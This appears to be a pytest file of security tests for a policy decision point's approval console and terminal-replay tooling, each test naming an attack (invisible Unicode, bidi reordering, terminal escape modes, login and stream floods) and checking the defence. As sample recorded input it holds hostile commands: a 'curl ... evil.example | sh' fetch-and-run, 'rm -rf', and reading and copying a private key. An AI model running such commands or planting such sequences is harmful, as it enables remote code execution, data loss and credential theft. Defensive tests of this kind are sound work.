"""Console and auditor readers, probed: what a reader-token agent sends and an approver or
auditor later reads, in the console (HTTP, and Debian's Chromium for the terminal player)
and the CLI renderings.

Each test names the attack it tries; they run against a real PDP (dev issuer sign-in,
code + PKCE) with no mocks.
"""

from __future__ import annotations

import contextlib
import json
import re
import time
from collections.abc import AsyncIterator
from dataclasses import replace
from html import unescape
from typing import Any
from urllib.parse import parse_qs, urlsplit

import aiohttp
import pytest
from pdp_harness import (
    decide_sql,
    free_port,
    open_session,
    pdp_config,
    pdp_stub,
    replay_on_a_terminal,
    running_pdp,
    token,
)

from pdp.console.markup import esc, text_block
from pdp.plumbing.rendering import inert, statement_lines
from portcullis.v1 import pdp_pb2

CHROMIUM = "/usr/bin/chromium"

# characters that draw nothing, or a blank, or change the character before them: each one
# makes text an approver reads differ from the text that runs
INVISIBLE = {
    "\u200b": "\\u200b",  # zero width space
    "\u200c": "\\u200c",  # zero width non-joiner
    "\u200d": "\\u200d",  # zero width joiner
    "\u2060": "\\u2060",  # word joiner
    "\ufeff": "\\ufeff",  # byte order mark
    "\u00ad": "\\xad",  # soft hyphen
    "\u180e": "\\u180e",  # Mongolian vowel separator
    "\u034f": "\\u034f",  # combining grapheme joiner
    "\u3164": "\\u3164",  # Hangul filler (a blank)
    "\ufe0f": "\\ufe0f",  # variation selector
    "\u206a": "\\u206a",  # inhibit symmetric swapping
    "\u00a0": "\\xa0",  # no-break space: not the space the shell or Postgres splits on
    "\u2003": "\\u2003",  # em space
    "\u0338": "\\u0338",  # combining long solidus overlay: = looks like an unequal sign
    "\U000e0041": "\\U000e0041",  # tag LATIN CAPITAL LETTER A (ASCII smuggling)
}


def test_invisible_characters_are_visible_escapes_in_every_human_rendering():
    """Attack (reader token): a statement holding zero-width, default-ignorable, tag or
    non-ASCII space characters reads, in the approval view, as another statement: the
    approver sees `INSERT INTO orders` for an INSERT into a table whose name holds a
    U+200B (a table the agent made, with its own trigger), `admin` for `admin<U+E0041>`.
    inert() escaped C0/C1, line separators and bidi controls only; the rest went through
    to the CLI, the webhook text and the console."""
    for raw, shown in INVISIBLE.items():
        text = f"ord{raw}ers"
        assert inert(text) == f"ord{shown}ers", repr(raw)
        assert raw not in esc(text) and shown in esc(text), repr(raw)
        assert raw not in text_block(text), repr(raw)
    lines = statement_lines("INSERT INTO ord\u200bers VALUES (1)")
    assert "ord\\u200bers" in lines[1] and "\u200b" not in lines[1]
    # ordinary text stays as it is
    assert inert("café não 日本 ☃ plain text") == "café não 日本 ☃ plain text"


def console_pdp_fixture() -> Any:
    """A `pdp` fixture: a PDP serving its console over HTTP at `pdp.base`, one per test."""

    @pytest.fixture
    async def pdp(tmp_path):
        port = free_port()
        config = pdp_config(tmp_path)
        config = replace(config, pdp=replace(config.pdp, http_listen=f"127.0.0.1:{port}"))
        async with running_pdp(config) as app:
            app.base = f"http://127.0.0.1:{port}"
            yield app

    return pdp


pdp = console_pdp_fixture()


def _http() -> aiohttp.ClientSession:
    return aiohttp.ClientSession(cookie_jar=aiohttp.CookieJar(unsafe=True))


async def sign_in(http: aiohttp.ClientSession, base: str, subject: str, groups: str) -> str:
    """Signs `http` in at the dev issuer; returns the session's CSRF token."""
    async with http.get(f"{base}/console/login", params={"next": "/console/approvals/"},
                        allow_redirects=False) as r:  # fmt: skip
        authorize = r.headers["Location"]
    form = {k: v[0] for k, v in parse_qs(urlsplit(authorize).query).items()}
    form.update(subject=subject, groups=groups)
    async with http.post(f"{base}/console/dev-issuer/authorize", data=form,
                         allow_redirects=False) as r:  # fmt: skip
        callback = r.headers["Location"]
    async with http.get(callback, allow_redirects=False) as r:
        assert r.status == 200, await r.text()
    async with http.get(f"{base}/console/approvals/") as r:
        page = await r.text()
    return unescape(re.search(r'name="csrf-token" content="([^"]*)"', page)[1])


async def test_an_approver_sees_invisible_characters_of_a_waiting_statement(pdp):
    """Attack (reader token, through the PDP a proxy asks): an INSERT whose table name and
    value hold invisible characters waits for approval; the approver's console card showed
    `INSERT INTO orders VALUES (1) RETURNING id AS "id"`, the characters in the page raw."""
    reader = token(pdp.config, "rita@example.com", ("readonly",))
    hidden = "".join(INVISIBLE)
    sql = f'INSERT INTO ord\u200bers VALUES (1) RETURNING id AS "id{hidden}"'
    async with pdp_stub(pdp.address) as stub:
        opened = await open_session(stub, reader)
        asked = await decide_sql(stub, opened.session_id, sql)
        assert asked.verdict == pdp_pb2.REQUIRE_APPROVAL and asked.approval_id
    async with _http() as http:
        await sign_in(http, pdp.base, "sam@example.com", "security")
        for path in ("/console/approvals/", "/console/approvals/list"):
            async with http.get(f"{pdp.base}{path}") as r:
                page = await r.text()
            assert asked.approval_id in page, path
            assert "ord\\u200bers" in page, path
            for raw, shown in INVISIBLE.items():
                assert raw not in page, (path, repr(raw))
                assert shown in page, (path, shown)


async def _recorded_session(pdp, output: list[list]) -> str:
    """A terminal recording as a proxy sends it; returns its session id."""
    user = token(pdp.config, "bob@example.com", ("readonly",))
    event = {"time": time.time(), "direction": "upstream", "type": "response",
             "details": {"kind": "ssh.asciicast", "channel": 0, "decision_id": "d-probe",
                         "header": {"version": 2, "width": 80, "height": 24},
                         "events": output}}  # fmt: skip
    async with pdp_stub(pdp.address) as stub:
        opened = await open_session(stub, user)
        await stub.RecordEvents(pdp_pb2.RecordEventsRequest(
            session_id=opened.session_id, events_json=json.dumps([event])))  # fmt: skip
        await stub.CloseSession(pdp_pb2.CloseSessionRequest(session_id=opened.session_id))
    return opened.session_id


@contextlib.asynccontextmanager
async def chromium() -> AsyncIterator[Any]:
    """A headless Chromium, closed (with its Playwright) after."""
    from playwright.async_api import async_playwright

    pw = await async_playwright().start()
    browser = await pw.chromium.launch(executable_path=CHROMIUM,
                                       args=["--no-sandbox", "--disable-gpu"])  # fmt: skip
    try:
        yield browser
    finally:
        await browser.close()
        await pw.stop()


async def signed_in(browser: Any, url: str, who: str, groups: str) -> Any:
    """A new page of `browser` on `url`, signed in as `who` in `groups` at the dev issuer's
    form the console sends it to."""
    page = await (await browser.new_context()).new_page()
    await page.goto(url)
    await page.get_by_label("Subject").fill(who)
    await page.get_by_label("Groups (comma-separated)").fill(groups)
    await page.get_by_role("button", name="Sign in").click()
    await page.wait_for_url(url)
    return page


async def _browser_page(pdp, path: str, who: str = "ines@example.com", groups: str = "auditor"):
    """Chromium signed in (an auditor by default) at the dev issuer's form, on `path`."""
    from playwright.async_api import async_playwright

    pw = await async_playwright().start()
    browser = await pw.chromium.launch(executable_path=CHROMIUM,
                                       args=["--no-sandbox", "--disable-gpu"])  # fmt: skip
    page = await signed_in(browser, f"{pdp.base}{path}", who, groups)
    return pw, browser, page


async def test_the_terminal_player_shows_invisible_characters(pdp):
    """Attack (a recorded shell's output): the browser player escaped control characters
    and bidi controls but drew zero-width, tag and other invisible characters as they are:
    a recorded `rm -rf /srv/data` next to `rm -rf /srv/da<U+200B>ta` read the same."""
    from playwright.async_api import expect

    hidden = "".join(INVISIBLE)
    sid = await _recorded_session(pdp, [[0.1, "o", f"$ rm -rf /srv/da\u200bta {hidden}\r\n"]])
    pw, browser, page = await _browser_page(pdp, f"/console/sessions/{sid}")
    try:
        screen = page.get_by_role("log", name="Terminal output, channel 0")
        await expect(screen).to_contain_text("/srv/da\\u200bta")
        text = await screen.inner_text()
        for raw, shown in INVISIBLE.items():
            assert raw not in text, repr(raw)
            assert shown in text, shown
    finally:
        await browser.close()
        await pw.stop()


# -- portcullis replay on the auditor's terminal ---------------------------------------------

# modes a recorded terminal set that the auditor's terminal keeps after the replay, each
# changing what it types into the auditor's shell from then on
LINGERING = (
    "\x1b[?1000h",  # mouse reports: a click types ESC [ M ... into the shell
    "\x1b[?1003h",  # every mouse motion reported
    "\x1b[?1004h",  # focus reports: ESC [ I / ESC [ O on switching windows
    "\x1b[?2048h",  # in-band resize reports
    "\x1b[?1h",  # application cursor keys
    "\x1b[?2004l",  # bracketed paste off: a pasted newline runs at once
    "\x1b[>4;2m",  # modifyOtherKeys: Ctrl-C arrives as CSI 27;5;99~
    "\x1b[2h",  # keyboard action mode: the keyboard is locked
    "\x1b[12l",  # send/receive mode: local echo
    "\x1b[20h",  # new line mode: Enter sends CR LF
    "\x1b[?1049;1000h",  # an allowed mode does not carry another
)


def test_a_recording_leaves_no_mode_that_changes_what_the_terminal_sends():
    """Attack (an SSH user's recorded output, replayed by `portcullis replay` on the
    auditor's terminal): DisplayOnly passed every mode set or reset (CSI ? n h/l, CSI n
    h/l) and key modifiers (CSI > m), so after the replay the auditor's terminal reported
    mouse clicks, focus changes and resizes as input to their shell, sent other codes
    for cursor keys and Ctrl combinations, or locked the keyboard; CSI 3 J erased the
    scrollback (the timeline printed above); the alternate screen, a scrolling region,
    a hidden cursor and the line-drawing character set outlived the recording."""
    from pdp.cli.terminal_replay import DisplayOnly

    display = DisplayOnly()
    for sequence in LINGERING:
        assert display.feed(sequence) == "", repr(sequence)
    for erase in ("\x1b[3J", "\x1b[?3J", "\x1b[03J"):
        assert display.feed(erase) == "", repr(erase)
    # what only draws still passes, and what it leaves set is undone at the end
    kept = "\x1b[?1049h\x1b[?25l\x1b[5;20r\x1b(0\x1b[4h\x1b[2J\x1b[31mx"
    assert display.feed(kept) == kept
    trailer = display.end()
    assert trailer.startswith("\x1b[?1049l")
    for reset in ("\x1b[?25h", "\x1b[4l", "\x1b7\x1b[r\x1b8", "\x1b(B"):
        assert reset in trailer, repr(reset)
    assert display.feed("\x1b[?25l\x1b[?25h") == "\x1b[?25l\x1b[?25h"
    assert "\x1b[?25h" not in display.end()  # set back by the recording itself


async def test_replay_keeps_the_timeline_out_of_a_recording_s_reach(tmp_path):
    """The same through `portcullis replay` on a real pty: the modes never reach the
    auditor's terminal, the timeline has scrolled into the scrollback (a screenful of new
    lines) before the recording plays, and the recording's state is reset after it."""
    import asyncio

    from test_evidence import make_env

    env = make_env(tmp_path, {"type": "sqlite", "path": str(tmp_path / "var" / "audit.db")})
    recorded = "".join(LINGERING) + "\x1b[3J\x1b[?1049h\x1b[?25l\x1b[2;5r\x1b(0\x1b[Hqqq"
    async with running_pdp(env.config) as app:
        sid = await _recorded_session(app, [[0.1, "o", recorded]])
    # played as a terminal draws it (--raw; by default every byte is shown as text)
    shown = await asyncio.to_thread(replay_on_a_terminal, env.config_path, sid, 30, "--raw")
    timeline, played = shown.split(b"--- terminal, channel 0", 1)
    assert timeline.endswith(b"\r\n" * 30)  # the pty writes LF as CR LF
    for sequence in (*LINGERING, "\x1b[3J"):
        assert sequence.encode() not in played, sequence
    assert b"\x1b[?1049h\x1b[?25l\x1b[2;5r\x1b(0\x1b[Hqqq" in played
    after = played.split(b"qqq", 1)[1]
    for reset in (b"\x1b[?1049l", b"\x1b[?25h", b"\x1b[r", b"\x1b(B"):
        assert reset in after, reset


# -- the approvals stream --------------------------------------------------------------------


async def test_open_approval_streams_do_not_multiply_store_reads(pdp):
    """Attack (anyone who can sign in to the console, a reader too): every open
    /console/approvals/stream read the audit store for new approval records each second,
    and one person could open as many as they liked: N streams were N store queries a
    second on the PDP that answers every decision (the book follows the store on its own
    already). Now a stream reads only the book, and a person holds at most MAX_STREAMS
    (8) open; others still get theirs."""
    import asyncio

    from pdp.domain.approvals import KIND, POLL_SECONDS

    max_streams = 8  # pdp.console.views.approvals.MAX_STREAMS

    reads = 0
    query = pdp.store.query

    async def counted(*args, **kwargs):
        nonlocal reads
        if kwargs.get("kind") == KIND and "after_seq" in kwargs:
            reads += 1
        return await query(*args, **kwargs)

    pdp.store.query = counted
    async with _http() as http, _http() as other:
        await sign_in(http, pdp.base, "rita@example.com", "readonly")
        await sign_in(other, pdp.base, "sam@example.com", "security")
        streams = []
        try:
            for _ in range(max_streams):
                stream = await http.get(f"{pdp.base}/console/approvals/stream")
                assert stream.status == 200
                streams.append(stream)
            async with http.get(f"{pdp.base}/console/approvals/stream") as refused:
                assert refused.status == 429
            theirs = await other.get(f"{pdp.base}/console/approvals/stream")
            assert theirs.status == 200
            streams.append(theirs)
            await asyncio.sleep(0.5)
            reads = 0
            await asyncio.sleep(3.0)
            # the book's own follower reads every POLL_SECONDS; the streams add nothing
            # (33 before: 6 + 9 streams for 3 seconds)
            assert reads <= 3 / POLL_SECONDS + 2, reads
        finally:
            for stream in streams:
                stream.close()
        await asyncio.sleep(1.5)  # closed streams end at their next tick
        again = await http.get(f"{pdp.base}/console/approvals/stream")
        assert again.status == 200
        again.close()


# -- a long session's replay -------------------------------------------------------------------


async def test_a_long_session_s_replay_page_is_bounded(pdp):
    """Attack (reader token: a session of many cheap statements, SELECT 1 in a loop): the
    replay page built the whole timeline and its HTML on the PDP's event loop, every entry
    on one page. 20,000 statements (25 s of a reader's work) made an auditor's click a
    4.4 MB page that took 6 to 8 s, and held every proxy's Decide for 3 to 4.5 s of it.
    Now a page shows 500 entries with links to the others (the totals are the whole
    session's) and is built in a worker thread: the same click is 110 kB, Decide waits
    0.2 s."""
    user = token(pdp.config, "rita@example.com", ("readonly",))
    count = 1200
    now = time.time()
    async with pdp_stub(pdp.address) as stub:
        opened = await open_session(stub, user)
        for start in range(0, count, 600):
            events = [{"time": now + i * 0.001, "direction": "client", "type": "command",
                       "command": f"SELECT {i} AS n{i}", "verdict": "allow",
                       "details": {"kind": "postgres.query"}}
                      for i in range(start, start + 600)]  # fmt: skip
            await stub.RecordEvents(pdp_pb2.RecordEventsRequest(
                session_id=opened.session_id, events_json=json.dumps(events)))  # fmt: skip
    sid = opened.session_id
    async with _http() as http:
        await sign_in(http, pdp.base, "ines@example.com", "auditor")

        async def page(query: str = "") -> str:
            async with http.get(f"{pdp.base}/console/sessions/{sid}{query}") as r:
                assert r.status == 200
                return await r.text()

        first = await page()  # the session.open entry, then 499 statements
        assert len(re.findall(r"AS n\d+<", first)) == 499
        assert "AS n0<" in first and "AS n498<" in first and "AS n499<" not in first
        assert f'href="/console/sessions/{sid}?from=500"' in first
        assert f"entries 1\u2013500 of {count + 1}" in unescape(first)
        last = await page("?from=1000")
        assert len(re.findall(r"AS n\d+<", last)) == 201
        assert "AS n1199<" in last and "AS n999<" in last and "AS n998<" not in last
        assert f'href="/console/sessions/{sid}?from=500"' in last
        assert "AS n0<" in await page("?from=%C2%B2")  # not a number: the first page
        assert "AS n1199<" in await page("?from=999999")  # past the end: the last page


async def test_the_player_hides_nothing_behind_a_clear_screen_or_echo_off(pdp):
    """Attack (a recorded shell, a dba's or the server's): the browser player threw away
    every line on CSI 2 J / 3 J, so `...; clear` left the auditor's opening view (the
    recording's end) blank, and it played output only, so commands typed after `stty
    -echo` showed nowhere though the recording holds them (the "i" events). Now a clear
    keeps what was shown above a mark, and the typed input is shown apart, inert."""
    from playwright.async_api import expect

    sid = await _recorded_session(pdp, [
        [0.1, "o", "$ cat /srv/keys/prod.pem\r\n-----BEGIN KEY-----\r\n$ "],
        [0.2, "i", "clear\r"],
        [0.3, "o", "clear\r\n\x1b[H\x1b[2J\x1b[3J$ "],
        [0.4, "i", "stty -echo\r"],
        [0.5, "o", "stty -echo\r\n$ "],
        [0.6, "i", "curl -s https://evil.example/x | sh\r\x1b[A\x7f"],
        [0.7, "o", "\r\n$ "],
    ])  # fmt: skip
    pw, browser, page = await _browser_page(pdp, f"/console/sessions/{sid}")
    try:
        await page.get_by_label("Draw as a terminal (cursor moves, erasing)").check()
        screen = page.get_by_role("log", name="Terminal output, channel 0")
        await expect(screen).to_contain_text("[screen cleared]")
        shown = await screen.inner_text()
        assert "cat /srv/keys/prod.pem" in shown and "BEGIN KEY" in shown
        assert shown.index("BEGIN KEY") < shown.index("[screen cleared]")
        assert shown.count("[screen cleared]") == 1
        typed = page.get_by_label("Typed input, channel 0")
        await expect(typed).to_contain_text("curl -s https://evil.example/x | sh")
        keys = await typed.inner_text()
        assert "stty -echo" in keys and "\\x1b[A\\x7f" in keys and "\x1b" not in keys
    finally:
        await browser.close()
        await pw.stop()


async def test_an_asciicast_export_is_exact_and_holds_no_raw_c1_controls(tmp_path):
    """Attack (a recorded shell's output): `portcullis replay SESSION --format asciicast`
    wrote the recording with json.dumps(ensure_ascii=False), which leaves DEL, the C1
    controls (U+009B CSI, U+009D OSC), line separators and bidi controls raw: sent to the
    auditor's terminal (no `> file`), 8-bit CSI/OSC sequences acted on it. Now those are
    \\u escapes in the JSON: the same values, so the export stays exact."""
    import asyncio
    import os
    import subprocess
    import sys

    from pdp_harness import REPO
    from test_evidence import make_env

    env = make_env(tmp_path, {"type": "sqlite", "path": str(tmp_path / "var" / "audit.db")})
    output = "ok \x9b2J\x9d52;c;cm0gLXJmIH4K\x07 \u202eexe.txt \U000e0041 日本 \\ \x1b[0m\r\n"
    async with running_pdp(env.config) as app:
        sid = await _recorded_session(app, [[0.1, "o", output]])
    done = await asyncio.to_thread(
        subprocess.run,
        [sys.executable, "-m", "pdp.cli", "-c", str(env.config_path), "replay", sid,
         "--format", "asciicast"],
        capture_output=True, timeout=60,
        env={**os.environ, "PYTHONPATH": f"{REPO}{os.pathsep}{REPO / 'proto'}"},
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    for raw in ("\x9b", "\x9d", "\u202e", "\U000e0041", "\x1b"):
        assert raw.encode() not in done.stdout, repr(raw)
    lines = done.stdout.decode().splitlines()
    assert json.loads(lines[1]) == [0.1, "o", output]  # exact
    assert "日本" in lines[1]


# -- signing in ----------------------------------------------------------------------------------


async def test_a_flood_of_logins_started_does_not_cancel_someone_s_sign_in(pdp):
    """Attack (anyone who reaches the console, signed in or not): every GET /console/login
    kept a login under way in the PDP's memory, at most 1,000, the oldest dropped: 1,000
    requests (a fraction of a second) cancelled every sign-in in progress, so while they
    went on nobody could sign in to approve. Now a login under way lives in its own
    browser's cookie (signed by the PDP, bound to the state, used once), and no one
    else's requests can push it out."""
    async with _http() as victim, _http() as flood:
        async with victim.get(f"{pdp.base}/console/login", params={"next": "/console/approvals/"},
                              allow_redirects=False) as r:  # fmt: skip
            authorize = r.headers["Location"]
        for _ in range(1100):
            async with flood.get(f"{pdp.base}/console/login", allow_redirects=False) as r:
                assert r.status == 302
        form = {k: v[0] for k, v in parse_qs(urlsplit(authorize).query).items()}
        form.update(subject="sam@example.com", groups="security")
        async with victim.post(f"{pdp.base}/console/dev-issuer/authorize", data=form,
                               allow_redirects=False) as r:  # fmt: skip
            callback = r.headers["Location"]
        async with victim.get(callback, allow_redirects=False) as r:
            assert r.status == 200, await r.text()
        async with victim.get(f"{pdp.base}/console/approvals/", allow_redirects=False) as r:
            assert r.status == 200 and "Signed in as" in await r.text()
        # used once: the same callback again, in the same browser, is refused
        async with victim.get(callback, allow_redirects=False) as r:
            assert r.status == 400


async def test_a_login_cookie_cannot_be_forged_or_moved(pdp):
    """The login cookie is the PDP's: changed, or another login's, it finishes nothing."""
    async with (
        aiohttp.ClientSession(cookie_jar=aiohttp.DummyCookieJar()) as bare,
        bare.get(f"{pdp.base}/console/login", allow_redirects=False) as r,
    ):
        authorize = r.headers["Location"]
        cookie = r.cookies["portcullis_login"].value
    state = parse_qs(urlsplit(authorize).query)["state"][0]
    other = cookie[:-2] + ("AA" if not cookie.endswith("AA") else "BB")
    async with aiohttp.ClientSession(cookie_jar=aiohttp.DummyCookieJar()) as bare:
        for forged in (other, state, ""):
            async with bare.get(f"{pdp.base}/console/callback",
                                params={"state": state, "code": "x"},
                                headers={"Cookie": f"portcullis_login={forged}"},
                                allow_redirects=False) as r:  # fmt: skip
                assert r.status == 400, forged


def test_one_person_signing_in_again_and_again_signs_nobody_else_out():
    """Attack (any identity the issuer signs in, scripted: with SSO at the issuer a login
    needs no prompt): the console kept at most 10,000 sign-ins and dropped the oldest of
    anyone's beyond that, so one identity signing in 10,000 times signed out every
    approver and auditor. Now one person (issuer, subject) keeps at most 32, their own
    oldest dropped first."""
    from pdp.console.websession import MAX_SESSIONS, WebSessions

    sessions = WebSessions(3600, 3600)
    sam = sessions.open("sam@example.com", ("security",), "https://idp", 0)
    for _ in range(MAX_SESSIONS + 10):
        latest = sessions.open("mallory@example.com", ("readonly",), "https://idp", 0)
    assert sessions.find(sam.id) is sam
    assert sessions.find(latest.id) is latest
    assert len(sessions._sessions) <= 33


async def test_an_idle_inbox_tab_still_expires(tmp_path):
    """Attack (on an approver's unattended browser): the inbox page reloads its list by
    itself whenever the requests change (inbox.js fetches /console/approvals/list on the
    stream's `changed`), and each fetch counted as the person's activity: while requests
    kept changing (a requester can make them), an approver who walked away stayed signed
    in for the whole 8-hour lifetime instead of the idle timeout. Now those fetches are
    not activity, as the stream already was not."""
    import asyncio

    from pdp.app import Parts
    from pdp.console.settings import ConsoleSettings

    port = free_port()
    config = pdp_config(tmp_path)
    config = replace(config, pdp=replace(config.pdp, http_listen=f"127.0.0.1:{port}"))
    base = f"http://127.0.0.1:{port}"
    settings = ConsoleSettings(public_url=base, idle_seconds=2)
    async with running_pdp(config, Parts(console=settings)), _http() as http:
        await sign_in(http, base, "sam@example.com", "security")
        for _ in range(6):  # 3 s of the page's own reloads
            async with http.get(f"{base}/console/approvals/list", allow_redirects=False) as r:
                assert r.status in (200, 302)
            await asyncio.sleep(0.5)
        async with http.get(f"{base}/console/approvals/", allow_redirects=False) as r:
            assert r.status == 302 and r.headers["Location"].startswith("/console/login")


# where each of these characters is drawn, left to right, in the first code block holding it
_POSITIONS = """([block, chars]) => {
  const code = [...document.querySelectorAll(block)]
    .find(c => chars.every(x => c.textContent.includes(x)));
  const text = code.firstChild, all = text.textContent;
  return chars.map(c => {
    const range = document.createRange(), at = all.indexOf(c);
    range.setStart(text, at); range.setEnd(text, at + 1);
    return range.getBoundingClientRect().x;
  });
}"""
ALEF, BET = "\u05d0", "\u05d1"


async def test_an_approver_reads_a_statement_in_the_order_it_runs(pdp):
    """Attack (reader token): right-to-left letters in a statement, no control character
    at all, make the browser's bidi algorithm draw what lies between them in reverse:
    `... RETURNING "<alef>", 1, 2, "<bet>"` showed the approver `"<bet>", 2, 1,
    "<alef>"`, names and clauses in another order than they run. Now code blocks are
    drawn in stored order, left to right (unicode-bidi: isolate-override)."""
    reader = token(pdp.config, "rita@example.com", ("readonly",))
    sql = f'INSERT INTO orders VALUES (1) RETURNING "{ALEF}", 1, 2, "{BET}"'
    async with pdp_stub(pdp.address) as stub:
        opened = await open_session(stub, reader)
        asked = await decide_sql(stub, opened.session_id, sql)
        assert asked.verdict == pdp_pb2.REQUIRE_APPROVAL
    pw, browser, page = await _browser_page(pdp, "/console/approvals/", "sam@example.com",
                                            "security")  # fmt: skip
    try:
        drawn = await page.evaluate(_POSITIONS, ["article.request code", ["1", "2", ALEF, BET]])
        one, two, alef, bet = drawn
        assert alef < one < two < bet, drawn
    finally:
        await browser.close()
        await pw.stop()


async def test_a_flood_of_lines_hides_no_command_silently(pdp):
    """Attack (a recorded shell): the player kept the last 5,000 lines and dropped older
    ones without a word, so a command followed by 5,000 lines of output, or typed then
    followed by 5,000 Enter presses, left the auditor's view with no trace of it. Now the
    screen says how many earlier lines it does not show, and the typed input keeps every
    line."""
    from playwright.async_api import expect

    sid = await _recorded_session(pdp, [
        [0.1, "o", "$ cp /srv/keys/prod.pem /tmp/x\r\n" + "filler\r\n" * 6000],
        [0.2, "i", "cp /srv/keys/prod.pem /tmp/x\r" + "\r" * 6000],
    ])  # fmt: skip
    pw, browser, page = await _browser_page(pdp, f"/console/sessions/{sid}")
    try:
        screen = page.get_by_role("log", name="Terminal output, channel 0")
        await expect(screen).to_contain_text("earlier lines not shown here")
        typed = page.get_by_label("Typed input, channel 0")
        await expect(typed).to_contain_text("cp /srv/keys/prod.pem /tmp/x")
    finally:
        await browser.close()
        await pw.stop()
